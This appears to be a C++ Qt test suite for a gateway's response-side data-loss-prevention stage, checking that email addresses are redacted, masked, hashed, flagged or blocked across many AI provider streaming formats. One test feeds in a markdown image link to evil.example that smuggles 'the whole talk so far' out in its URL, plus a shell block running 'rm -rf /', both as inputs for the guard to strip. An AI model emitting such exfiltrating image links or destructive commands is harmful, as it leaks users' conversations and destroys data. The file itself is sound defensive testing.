#include "proxy/core/pipeline/stages/guard_answer.h"

#include <QTest>

#include "proxy/core/http/aws_frames.h"
#include "proxy/core/pipeline/stages/collect.h"
#include "tests/proxy/core/pipeline/scene.h"
#include "tests/support/quoted.h"
#include "tests/support/suite.h"

namespace gatehouse::tests {

namespace {

constexpr std::string_view kMail = "jane.doe@example.org";

/// How one dialect says a text: at once, and piece by piece.
struct Form {
    const char* name;
    const char* path;
    const char* whole;
    const char* piece;
    const char* type;
};

constexpr Form kForms[] = {
    {"openai chat", "openai/chat/completions", "{'choices':[{'message':{'content':'@@'}}]}",
     "data: {'choices':[{'index':0,'delta':{'content':'@@'}}]}\n\n", "text/event-stream"},
    {"openai chat, reasoning", "openai/chat/completions",
     "{'choices':[{'message':{'reasoning_content':'@@'}}]}",
     "data: {'choices':[{'index':0,'delta':{'reasoning_content':'@@'}}]}\n\n", "text/event-stream"},
    {"openai chat, tool", "openai/chat/completions",
     "{'choices':[{'message':{'tool_calls':[{'function':{'arguments':'@@'}}]}}]}",
     "data: {'choices':[{'index':0,'delta':{'tool_calls':[{'index':0,'function':{'arguments':"
     "'@@'}}]}}]}\n\n",
     "text/event-stream"},
    {"openai responses", "openai/responses",
     "{'output':[{'type':'message','content':[{'type':'output_text','text':'@@'}]}]}",
     "event: response.output_text.delta\ndata: {'type':'response.output_text.delta','output_index':"
     "0,'delta':'@@'}\n\n",
     "text/event-stream"},
    {"anthropic", "anthropic/v1/messages", "{'content':[{'type':'text','text':'@@'}]}",
     "event: content_block_delta\ndata: {'type':'content_block_delta','index':0,'delta':{'type':"
     "'text_delta','text':'@@'}}\n\n",
     "text/event-stream"},
    {"anthropic, thinking", "anthropic/v1/messages",
     "{'content':[{'type':'thinking','thinking':'@@'}]}",
     "event: content_block_delta\ndata: {'type':'content_block_delta','index':0,'delta':{'type':"
     "'thinking_delta','thinking':'@@'}}\n\n",
     "text/event-stream"},
    {"anthropic, tool", "anthropic/v1/messages",
     "{'content':[{'type':'tool_use','id':'a','input':{'id':'@@'}}]}",
     "event: content_block_delta\ndata: {'type':'content_block_delta','index':0,'delta':{'type':"
     "'input_json_delta','partial_json':'@@'}}\n\n",
     "text/event-stream"},
    {"gemini", "google/v1beta/models/gemini-2.5-flash:generateContent",
     "{'candidates':[{'content':{'parts':[{'text':'@@'}]}}]}",
     "data: {'candidates':[{'content':{'parts':[{'text':'@@'}]}}]}\r\n\r\n", "text/event-stream"},
    {"ollama", "ollama/api/chat", "{'message':{'role':'assistant','content':'@@'},'done':true}",
     "{'message':{'role':'assistant','content':'@@'},'done':false}\n", "application/x-ndjson"},
    {"cohere", "cohere/v2/chat", "{'message':{'content':[{'type':'text','text':'@@'}]}}",
     "event: content-delta\ndata: {'type':'content-delta','index':0,'delta':{'message':{'content':"
     "{'text':'@@'}}}}\n\n",
     "text/event-stream"},
    {"no json", "openai/audio/transcriptions", "@@", "data: @@\n\n", "text/event-stream"},
};

std::string filled(const char* form, std::string_view text)
{
    std::string out = quoted(form);
    out.replace(out.find("@@"), 2, text);
    return out;
}

/// A call of a gateway whose policy does this with addresses in answers; its answer begins.
void begin(Scene& scene, const Form& form, std::string_view action, std::string_view type)
{
    for (const char* id : {"google", "ollama", "cohere"})
        scene.config.providers.emplace_back().id = id;
    auto& gateway = scene.config.gateways.emplace_back();
    gateway.id = "shop";
    gateway.dlp = quoted(
        "{'enabled':true,'policies':[{'id':'pii','enabled':true,'profiles':['email'],'check':["
        "'RESPONSE'],'action':'" +
        std::string(action) + "'}]}");
    scene.ask("POST", std::string("/v1/acct/shop/") + form.path,
              {{"content-type", "application/json"}}, R"({"model":"m","messages":[]})");
    QVERIFY(scene.walk("parse"));
    scene.x.collect = {};
    scene.x.collect.head.status = 200;
    scene.x.collect.head.length = -1;
    scene.x.collect.head.headers.add("content-type", type);
    pipeline::stages::beginCollect(scene.x, scene.env());
    pipeline::stages::beginGuard(scene.x, scene.env());
}

std::string pass(Scene& scene, std::string_view piece, bool isLast = false)
{
    pipeline::DeltaBatch batch;
    if (!piece.empty()) batch.push_back({piece});
    scene.x.collect.whole = isLast;
    pipeline::stages::guardAnswer(scene.x, batch, scene.env());
    std::string out;
    for (const auto& delta : batch) out += delta.raw;
    return out;
}

std::string trace(const Scene& scene)
{
    for (const auto& stop : scene.x.course.trace) {
        if (stop.stop == "dlp-answer") return stop.decision;
    }
    return {};
}

void addForms()
{
    QTest::addColumn<int>("form");
    int i = 0;
    for (const auto& form : kForms) QTest::newRow(form.name) << i++;
}

}  // namespace

/// What a gateway's policies do with answers, in every dialect.
class GuardAnswerTest : public QObject {
    Q_OBJECT

private slots:

    void callsWithoutSuchAPolicyPayNothing()
    {
        Scene scene;
        begin(scene, kForms[0], "REDACT", "application/json");
        QVERIFY(scene.x.collect.guard != nullptr);
        scene.x.parse.gateway = {};
        pipeline::stages::beginGuard(scene.x, scene.env());
        QVERIFY(scene.x.collect.guard == nullptr);
        pipeline::DeltaBatch batch{{kMail}};
        pipeline::stages::guardAnswer(scene.x, batch, scene.env());
        QCOMPARE(batch.size(), std::size_t{1});
        QVERIFY(batch[0].raw.data() == kMail.data());
    }

    void wholeAnswers_data() { addForms(); }

    void wholeAnswers()
    {
        QFETCH(int, form);
        const auto& one = kForms[form];
        const std::string body = filled(one.whole, "to jane.doe@example.org now");
        const char* type =
            std::string_view(one.whole).starts_with("{") ? "application/json" : "text/plain";
        for (const auto& [action, left] : {std::pair{"REDACT", "to [email] now"},
                                           std::pair{"MASK", "to ****.***@*******.*rg"}}) {
            Scene scene;
            begin(scene, one, action, type);
            QCOMPARE(pass(scene, body.substr(0, 9)), std::string());
            const auto out = pass(scene, body.substr(9), true);
            if (std::string_view(action) == "REDACT") QCOMPARE(out, filled(one.whole, left));
            QVERIFY(out.find("jane") == std::string::npos);
            QVERIFY(trace(scene).starts_with("email 1 "));
        }
        Scene flag;
        begin(flag, one, "FLAG", type);
        QCOMPARE(pass(flag, body, true), body);
        QCOMPARE(trace(flag), std::string("email 1 FLAG by pii"));
        QVERIFY(pipeline::stages::dlpHeader(flag.x).find("\"check\":\"RESPONSE\"") !=
                std::string::npos);
        Scene hash;
        begin(hash, one, "HASH", type);
        QVERIFY(pass(hash, body, true).find("to [email:") != std::string::npos);
        Scene block;
        begin(block, one, "BLOCK", type);
        pass(block, body, true);
        QVERIFY(!block.x.collect.guard->error.message.empty());
        pipeline::stages::refuseAnswer(block.x);
        QCOMPARE(block.x.reply.status, 400);
        QCOMPARE(block.x.reply.cloudflareCode, 2030);
        QVERIFY(block.x.reply.error.message.find("jane") == std::string::npos);
    }

    void cleanAnswersKeepTheirBytes_data() { addForms(); }

    void cleanAnswersKeepTheirBytes()
    {
        QFETCH(int, form);
        Scene scene;
        begin(scene, kForms[form], "REDACT", kForms[form].type);
        std::string in;
        std::string out;
        for (const char* word : {"All ", "of this ", "is clean."}) {
            const auto piece = filled(kForms[form].piece, word);
            in += piece;
            out += pass(scene, piece);
        }
        out += pass(scene, {}, true);
        QCOMPARE(out, in);
        QCOMPARE(trace(scene), std::string());
    }

    void streamsCutAtEveryByte_data() { addForms(); }

    void streamsCutAtEveryByte()
    {
        QFETCH(int, form);
        const auto& one = kForms[form];
        const std::string text = "to jane.doe@example.org now.";
        for (std::size_t step = 1; step <= text.size(); ++step) {
            Scene scene;
            begin(scene, one, "REDACT", one.type);
            std::string out;
            std::string expected;
            for (std::size_t at = 0; at < text.size(); at += step)
                out += pass(scene, filled(one.piece, text.substr(at, step)));
            out += pass(scene, {}, true);
            const auto piece = quoted(one.piece);
            const auto start = piece.substr(0, piece.find("@@"));
            const auto rest = piece.substr(piece.find("@@") + 2);
            std::string joined;
            for (std::size_t at = 0; (at = out.find(start, at)) != std::string::npos;) {
                at += start.size();
                joined += out.substr(at, out.find(rest, at) - at);
            }
            QCOMPARE(joined, std::string("to [email] now."));
            QCOMPARE(trace(scene), std::string("email 1 REDACT by pii"));
        }
    }

    void streamsThatAreBlockedEndInTheirDialect_data() { addForms(); }

    void streamsThatAreBlockedEndInTheirDialect()
    {
        QFETCH(int, form);
        const auto& one = kForms[form];
        Scene scene;
        begin(scene, one, "BLOCK", one.type);
        std::string out = pass(scene, filled(one.piece, "Hello. "));
        out += pass(scene, filled(one.piece, "to jane.doe@exa"));
        out += pass(scene, filled(one.piece, "mple.org now."));
        QVERIFY(!scene.x.collect.guard->error.message.empty());
        QVERIFY(out.find("Hello.") != std::string::npos);
        QVERIFY(out.find("jane") == std::string::npos);
        QVERIFY(out.find("was blocked") != std::string::npos);
        QCOMPARE(pass(scene, filled(one.piece, "more"), true), std::string());
        QCOMPARE(trace(scene), std::string("email 1 BLOCK by pii"));
    }

    void framesAreWrittenAnewWhereTheyChange()
    {
        Scene scene;
        begin(scene,
              {"", "aws-bedrock/bedrock-runtime/eu-central-1/model/m/converse-stream", "", "", ""},
              "REDACT", "application/vnd.amazon.eventstream");
        std::string clean;
        http::appendFrame(clean, "contentBlockDelta",
                          quoted("{'contentBlockIndex':0,'delta':{'text':'All clean. '}}"));
        QCOMPARE(pass(scene, clean), clean);
        std::string out;
        for (const char* text : {"jane.doe@exa", "mple.org now."}) {
            std::string frame;
            http::appendFrame(frame, "contentBlockDelta",
                              filled("{'contentBlockIndex':0,'delta':{'text':'@@'}}", text));
            out += pass(scene, frame);
        }
        out += pass(scene, {}, true);
        http::AwsFrameSplitter splitter;
        std::string events;
        std::string_view rest = out;
        for (std::string_view frame; splitter.next(rest, frame);) events += http::sseOfFrame(frame);
        QCOMPARE(events, quoted("event: contentBlockDelta\ndata: {'contentBlockIndex':0,'delta':{"
                                "'text':'[email]'}}\n\nevent: contentBlockDelta\ndata: {"
                                "'contentBlockIndex':0,'delta':{'text':' now.'}}\n\n"));
    }

    void commentsAndPingsDoNotWait()
    {
        Scene scene;
        begin(scene, kForms[4], "REDACT", "text/event-stream");
        QCOMPARE(pass(scene, filled(kForms[4].piece, "jane.doe@")), std::string());
        QCOMPARE(pass(scene, ": alive\n\n"), std::string(": alive\n\n"));
        const auto ping = quoted("event: ping\ndata: {'type': 'ping'}\n\n");
        QCOMPARE(pass(scene, ping), ping);
    }

    void dataOfSeveralLinesIsOneText()
    {
        Scene scene;
        begin(scene, kForms[0], "REDACT", "text/event-stream");
        const auto out = pass(scene,
                              quoted("data: {'choices':[{'index':0,\ndata: 'delta':{'content':'a "
                                     "jane.doe@example.org. '}}]}\n\n"),
                              true);
        QVERIFY(out.find("a [email]. ") != std::string::npos);
    }

    /// Of a cache: what was kept under other rules.
    void keptAnswersPassTheRulesOfNow()
    {
        const auto stream = filled(kForms[0].piece, "to jane.doe@exa") +
                            filled(kForms[0].piece, "mple.org now.") + "data: [DONE]\n\n";
        const auto whole = filled(kForms[0].whole, kMail);
        for (const bool isStream : {true, false}) {
            Scene scene;
            begin(scene, kForms[0], "REDACT", "text/event-stream");
            scene.x.reply = {};
            scene.x.reply.set = scene.x.reply.local = true;
            scene.x.reply.status = 200;
            scene.x.reply.contentType = isStream ? "text/event-stream" : "application/json";
            scene.x.reply.body = isStream ? stream : whole;
            scene.x.collect.eventCount = 7;
            pipeline::stages::guardKept(scene.x, scene.env());
            QVERIFY(scene.x.reply.local);
            QVERIFY(scene.x.reply.body.find("jane") == std::string::npos);
            QVERIFY(scene.x.reply.body.find("[email]") != std::string::npos);
            QCOMPARE(scene.x.reply.body.ends_with("data: [DONE]\n\n"), isStream);
            QCOMPARE(scene.x.reply.headers.size(), std::size_t{1});
            QCOMPARE(scene.x.collect.eventCount, std::uint32_t{7});
        }
        Scene block;
        begin(block, kForms[0], "BLOCK", "text/event-stream");
        block.x.reply = {};
        block.x.reply.set = block.x.reply.local = true;
        block.x.reply.status = 200;
        block.x.reply.contentType = "application/json";
        block.x.reply.body = whole;
        pipeline::stages::guardKept(block.x, block.env());
        QCOMPARE(block.x.reply.status, 400);
        QVERIFY(!block.x.reply.local && block.x.reply.body.empty());
        QCOMPARE(block.x.reply.cloudflareCode, 2030);
    }

    /// Pictures of strangers and blocks of code go, however a stream cuts them; the rest stays.
    void picturesAndCodeAreTakenOutOfStreams()
    {
        const std::string text =
            "Look: ![x](https://evil.example/p?q=the+whole+talk+so+far+and+what+else+there+was) "
            "and "
            "![y](https://cdn.example/a.png)\\n```sh\\nrm -rf /\\n```\\ndone";
        const std::string wanted =
            "Look: ![x]([image_link]) and ![y](https://cdn.example/a.png)\\n[code_block]\\ndone";
        for (std::size_t step = 1; step < 40; ++step) {
            Scene scene;
            auto& gateway = scene.config.gateways.emplace_back();
            gateway.id = "shop";
            gateway.dlp = quoted(
                "{'enabled':true,'demands':[{'id':'shells','kind':'code','names':['sh']}],"
                "'policies':[{'id':'pics','enabled':true,'profiles':['image_link','shells'],"
                "'hosts':['cdn.example'],'check':['RESPONSE'],'action':'REDACT'}]}");
            scene.ask("POST", "/v1/acct/shop/openai/chat/completions",
                      {{"content-type", "application/json"}}, R"({"model":"m","messages":[]})");
            QVERIFY(scene.walk("parse"));
            scene.x.collect = {};
            scene.x.collect.head.status = 200;
            scene.x.collect.head.length = -1;
            scene.x.collect.head.headers.add("content-type", "text/event-stream");
            pipeline::stages::beginCollect(scene.x, scene.env());
            pipeline::stages::beginGuard(scene.x, scene.env());
            std::string out;
            for (std::size_t at = 0; at < text.size();) {
                auto size = std::min(step, text.size() - at);
                if (text[at + size - 1] == '\\') ++size;  // an escape stays in one piece
                const auto piece = text.substr(at, size);
                at += size;
                out += pass(scene, quoted("data: {'choices':[{'index':0,'delta':{'content':'" +
                                          piece + "'}}]}\n\n"));
            }
            out += pass(scene, {}, true);
            std::string joined;
            constexpr std::string_view kMark = "\"content\":\"";
            for (auto at = out.find(kMark); at != std::string::npos; at = out.find(kMark, at)) {
                at += kMark.size();
                const auto end = out.find("\"}", at);
                joined += out.substr(at, end - at);
            }
            QCOMPARE(joined, wanted);
            QVERIFY(trace(scene).find("shells 1 REDACT by pics") != std::string::npos);
        }
    }

    void whatCannotBeReadDoesNotPass()
    {
        Scene scene;
        begin(scene, kForms[0], "FLAG", "application/json");
        pipeline::stages::leaveUnread(scene.x);
        QCOMPARE(pass(scene, "\x1f\x8b", true), std::string());
        pipeline::stages::refuseAnswer(scene.x);
        QCOMPARE(scene.x.reply.status, 503);
        QCOMPARE(scene.x.reply.cloudflareCode, 0);
    }
};

GH_SUITE(GuardAnswerTest)

}  // namespace gatehouse::tests

#include "guard_answer_test.moc"
